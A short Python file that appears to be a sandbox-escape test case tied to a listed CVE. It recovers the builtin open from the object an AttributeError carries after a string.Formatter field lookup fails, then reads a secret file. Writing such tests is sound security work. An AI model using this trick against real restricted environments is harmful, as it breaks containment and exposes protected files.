"""Take the object that an AttributeError keeps.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2024-47532
"""

import string

try:
    string.Formatter().get_field("0.nothing_here", [open], {})
except AttributeError as error:
    print(error.obj(SECRET_FILE).read())
